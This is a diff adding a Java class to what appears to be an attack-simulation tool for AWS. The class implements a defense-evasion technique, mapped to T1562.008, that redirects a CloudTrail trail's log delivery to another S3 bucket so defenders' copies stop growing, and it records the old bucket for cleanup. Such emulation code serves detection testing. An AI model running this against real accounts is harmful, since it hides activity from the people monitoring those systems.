@@ -1,0 +1,70 @@
+package io.firedrill.injector.technique.defenseevasion;
+
+import io.firedrill.injector.aws.ApiCall;
+import io.firedrill.injector.aws.AwsSession;
+import io.firedrill.injector.cleanup.Change;
+import io.firedrill.injector.cleanup.Ledger;
+import io.firedrill.injector.technique.IncidentType;
+import io.firedrill.injector.technique.Parameters;
+import io.firedrill.injector.technique.Technique;
+import io.firedrill.injector.technique.TechniqueInfo;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+
+/** Points a trail's delivery at a bucket the attacker owns: the defenders' copy stops growing. */
+public final class CloudTrailRedirectBucket implements Technique<CloudTrailRedirectBucket.Params> {
+
+  /**
+   * @param trail the trail's name or ARN
+   * @param bucket the bucket to deliver to instead
+   */
+  public record Params(String trail, String bucket) {}
+
+  private static final TechniqueInfo INFO =
+      new TechniqueInfo(
+          "aws.defense-evasion.cloudtrail-redirect-bucket",
+          "Deliver a trail to another bucket",
+          "Calls cloudtrail:UpdateTrail with a new S3 bucket. The trail keeps logging, but its"
+              + " files now land where the defenders do not look.",
+          List.of("T1562.008"),
+          IncidentType.COMPLIANCE_VARIANCE,
+          List.of("UpdateTrail"),
+          List.of(),
+          List.of("cloudtrail:UpdateTrail"));
+
+  @Override
+  public TechniqueInfo info() {
+    return INFO;
+  }
+
+  @Override
+  public Params parameters(Map<String, String> with) {
+    Parameters.allowOnly(with, Set.of("trail", "bucket"));
+    return new Params(
+        Parameters.required(with, "trail", "the name or ARN of the trail"),
+        with.getOrDefault("bucket", "logs-archive-7f3a"));
+  }
+
+  @Override
+  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
+    try {
+      String before =
+          session
+              .cloudTrail()
+              .describeTrails(r -> r.trailNameList(p.trail()))
+              .trailList()
+              .get(0)
+              .s3BucketName();
+      ledger.willMake(Change.of(Change.TRAIL_BUCKET, p.trail(), "bucket", before));
+    } catch (RuntimeException unreadable) {
+      // The actor cannot read the trail (or it is not there): the update fails the same way.
+    }
+    return List.of(
+        session.call(
+            "cloudtrail",
+            "UpdateTrail",
+            () ->
+                session.cloudTrail().updateTrail(r -> r.name(p.trail()).s3BucketName(p.bucket()))));
+  }
+}
